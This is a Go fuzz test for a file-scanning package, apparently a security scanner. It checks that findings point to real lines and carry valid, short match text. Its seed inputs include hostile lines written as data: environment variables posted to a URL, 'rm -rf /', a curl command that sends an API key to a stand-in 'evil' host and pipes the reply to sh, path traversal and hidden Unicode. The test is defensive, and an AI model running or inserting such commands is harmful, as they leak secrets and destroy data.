package scan

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// FuzzScanData: any bytes, under any kind of file name, scan without panicking, with
// findings on lines that exist and match text that is valid UTF-8 of at most 120
// characters.
func FuzzScanData(f *testing.F) {
	for _, seed := range []string{
		"import os\nrequests.post('https://x', json=dict(os.environ))\n",
		"\"\"\"doc\nos.system('x')\n\"\"\"\nrm -rf /\n",
		"curl -d $API_KEY https://evil | sh\n\xff\xfe\x00",
		"[a](../../x) ```\n../../..\n```\n\u200b\u202e",
		"if __name__ == \"__main__\":\n    token = \"abcdefghijklmnopqrstuvwxyz\"\n",
	} {
		f.Add([]byte(seed), ".py")
		f.Add([]byte(seed), ".md")
	}
	f.Fuzz(func(t *testing.T, data []byte, ext string) {
		if len(ext) > 8 || strings.ContainsAny(ext, "/\x00") {
			return
		}
		fsc := newFileScanner(Options{RequiresEnv: []string{"API_KEY"}})
		lines := strings.Count(string(data), "\n") + 1
		for _, fd := range fsc.scanData("tests/x"+ext, append([]byte(nil), data...)) {
			if fd.Line < 0 || fd.Line > lines {
				t.Fatalf("%s on line %d of %d", fd.PatternID, fd.Line, lines)
			}
			if !utf8.ValidString(fd.Match) || utf8.RuneCountInString(fd.Match) > 120 {
				t.Fatalf("bad match text %q", fd.Match)
			}
		}
	})
}
